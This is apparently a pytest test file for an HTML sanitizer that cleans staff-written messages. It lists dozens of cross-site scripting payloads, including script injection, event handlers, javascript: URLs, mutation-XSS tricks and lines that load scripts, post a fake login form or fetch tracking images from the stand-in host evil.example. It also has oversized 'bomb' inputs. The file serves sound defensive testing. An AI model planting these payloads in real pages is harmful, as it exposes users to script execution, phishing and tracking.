"""What staff write, made harmless: plain tags and links out of here are all that is left of any HTML."""

from html.parser import HTMLParser

import pytest

from loaders.messages import as_text, purified

_TAGS = "a b blockquote br code em h1 h2 h3 h4 hr i li ol p pre s span strong sub sup table tbody td th thead tr u ul"
TAGS = frozenset(_TAGS.split())
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.gif?who=7'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='https://school.example' target=_top onclick=alert(1) style='position:fixed'>x</a>",
    "<p style='background:url(//evil.example/x)' class=x id=y>x</p>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]><p>x",
    "<b/onmouseover=alert(1)>x</b>",
    "<<b>script>alert(1)</b>",
    "<template><script>alert(1)</script></template>",
    "<p>\u202ereversed <a href=//evil.example/%E2%80%AE>x</a></p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "plain <3 text & more",
]


class _Seen(HTMLParser):
    """The tags and attributes of a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack: str) -> None:
    for body in (attack, f"<p>before</p>{attack}<p>after</p>", f"<table><td>{attack}", f"<a href='{attack}'>x</a>"):
        clean = purified(body)
        seen = _Seen()
        seen.feed(clean)
        seen.close()
        assert seen.others == []
        for tag, attributes in seen.tags:
            assert tag in TAGS
            for name, value in attributes:
                assert (tag, name) in (("a", "href"), ("a", "rel"))
                if name == "rel":
                    assert value == "noopener noreferrer"
                else:
                    assert value is not None
                    assert value.lower().startswith(("http://", "https://", "mailto:", "tel:"))


@pytest.mark.parametrize(
    "bomb",
    ["<b><p>" * 3300, "<b><i><u><s><p>" * 1300, "<ul><li>" * 2500, "<" * 20_000, "<a " + "x=1 " * 4900 + ">",
     "<![CDATA[" * 2200, "<svg><style>" * 1600, "<table><tr><td>" * 1300, "&amp;" * 4000],
)  # fmt: skip
def test_what_is_left_of_a_bomb_is_bounded_by_its_own_length(bomb: str) -> None:
    clean = purified(bomb)
    assert len(clean) <= 10 * len(bomb)
    assert len(as_text(clean)) <= len(clean)
